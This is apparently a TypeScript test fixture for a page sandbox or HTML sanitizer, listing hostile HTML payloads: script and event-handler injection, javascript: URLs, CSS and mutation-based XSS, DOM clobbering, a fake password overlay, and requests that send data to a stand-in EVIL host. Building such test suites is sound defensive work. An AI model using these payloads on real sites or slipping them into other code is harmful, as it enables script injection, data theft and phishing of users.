/**
 * Pages that would run, load, lead away or deceive if they were not shown behind two walls.
 *
 * `EVIL` stands for the address of a server that nothing may ask. Whatever runs sets the title to "hacked" or tells the frame around it.
 */
const RUN = "document.title='hacked';top.postMessage('hacked','*');new Image().src='EVIL/ran'";

export const HOSTILE_PAGES: { readonly [name: string]: string } = {
  script: `<script>${RUN}</script><script src="EVIL/x.js"></script><script type=module>${RUN}</script>`,
  handlers: `<body onload="${RUN}" onpageshow="${RUN}"><img src=EVIL/1.png onerror="${RUN}" onload="${RUN}"><p onpointermove="${RUN}" onclick="${RUN}">words</p>
    <details open ontoggle="${RUN}">x</details><input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">m</marquee><video onerror="${RUN}"><source src=EVIL/v></video>`,
  refresh: `<meta http-equiv=refresh content="0;url=EVIL/refresh"><meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  policy: `<meta http-equiv=content-security-policy content="script-src 'unsafe-inline'"><meta http-equiv=set-cookie content="a=b">`,
  form: `<form id=f action=EVIL/form method=post><input name=q value=1><button id=go>Send</button><input type=image src=EVIL/i.png>
    <button formaction=EVIL/form2>x</button></form><form action="javascript:${RUN}"><input type=submit></form>`,
  base: `<base href=EVIL/ target=_top><a href=leave id=leave>leave</a><img src=relative.png><link rel=stylesheet href=s.css>`,
  links: `<a id=link href=EVIL/link target=_top>away</a><a id=js href="javascript:${RUN}">js</a><a href="data:text/html,<script>${RUN}</script>">data</a>
    <a id=new href=EVIL/new target=_blank ping=EVIL/ping>new</a><map name=m><area shape=default href=EVIL/area></map><img usemap=#m src=EVIL/m.png>`,
  prefetch: `<link rel=prefetch href=EVIL/prefetch><link rel=dns-prefetch href=EVIL><link rel=preconnect href=EVIL><link rel=modulepreload href=EVIL/m.js>
    <link rel=icon href=EVIL/icon><link rel=manifest href=EVIL/manifest><link rel=stylesheet href=EVIL/link.css><link rel=preload as=image href=EVIL/p.png>`,
  css: `<style>@import url(EVIL/import.css);@imp\\6frt "EVIL/import2.css";@font-face{font-family:x;src:url(EVIL/font.woff2)}
    p{background:url(EVIL/bg.png);font-family:x;cursor:url(EVIL/c.cur),auto} p::before{content:url(EVIL/content.png)}
    p{background-image:image-set("EVIL/set.png" 1x);list-style:u\\72l("EVIL/esc.png")} input[value^=a]{background:url(EVIL/leak)}
    :root{--u:url(EVIL/var.png)} h1{background:var(--u);behavior:url(EVIL/b.htc);-moz-binding:url(EVIL/b.xml#x)}</style>
    <style></style><p style="background:url(EVIL/inline.png)">p</p><h1>h</h1><table background=EVIL/table.png><tr><td>x</table>`,
  overlay: `<style>body::after{content:"Your password, please";position:fixed;inset:0;z-index:2147483647;background:#fff}</style>
    <div style="position:fixed;top:-500px;left:-500px;width:9999px;height:9999px;z-index:2147483647">over everything</div>`,
  svg: `<svg onload="${RUN}"><script>${RUN}</script><image href=EVIL/svg.png /><use href="EVIL/u.svg#x"/><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/>
    <foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject><a href="javascript:${RUN}"><text y=20>t</text></a>
    <animate attributeName=href values="javascript:${RUN}"/><set attributeName=onmouseover to="${RUN}"/><rect fill="url(EVIL/fill.svg#a)" width=9 height=9 />
    <style>rect{fill:url(EVIL/css.svg#a)}</style></svg>`,
  frames: `<iframe src=EVIL/frame></iframe><iframe srcdoc="<script>${RUN.replaceAll('"', "&quot;")}</script>"></iframe><object data=EVIL/object></object>
    <embed src=EVIL/embed><iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html,<script>${RUN}</script>"></iframe><portal src=EVIL/portal></portal>`,
  frameset: `<frameset cols=*><frame src=EVIL/frameset><frame src="javascript:${RUN}"></frameset>`,
  media: `<img src=EVIL/a.png srcset="EVIL/b.png 2x"><picture><source srcset=EVIL/c.png><img src=EVIL/d.png></picture><video src=EVIL/v poster=EVIL/poster autoplay></video>
    <audio src=EVIL/a autoplay></audio><track src=EVIL/t><img loading=lazy src=EVIL/lazy.png><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='EVIL/in.png'/></svg>">`,
  mutation: `<noscript><p title="</noscript><img src=EVIL/m1 onerror=${RUN}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=EVIL/m2 onerror=${RUN}&gt;">
    <svg></p><style><a id="</style><img src=EVIL/m3 onerror=${RUN}>"><xmp><p title="</xmp><img src=EVIL/m4 onerror=${RUN}>"></xmp><textarea></textarea><img src=EVIL/m5></textarea>
    <select><template><img src=EVIL/m6></template></select><title></title><img src=EVIL/m7></title><p title='"><img src=EVIL/m8>'>x</p>`,
  clobber: `<form name=body><input name=createTreeWalker></form><img name=querySelector><a id=parent name=parent>x</a><iframe name=CSS></iframe><form id=CSS name=URL></form>`,
  custom: `<x-app onclick="${RUN}">custom</x-app><template shadowrootmode=open><script>${RUN}</script><img src=EVIL/shadow></template>`,
};

/** The page with an address for EVIL, around a text that is worth reading. */
export function hostilePage(name: string, evil: string): string {
  const text = `<h1>Page about ${name}</h1><p>${"The river carries the boats down to the town where the fair is held in autumn. ".repeat(5)}</p>`;
  const page = HOSTILE_PAGES[name]!.replaceAll("EVIL", evil);
  return page.startsWith("<frameset")
    ? page
    : page.startsWith("<body")
      ? `${page}${text}`
      : `<title>${name}</title>${text}${page}`;
}
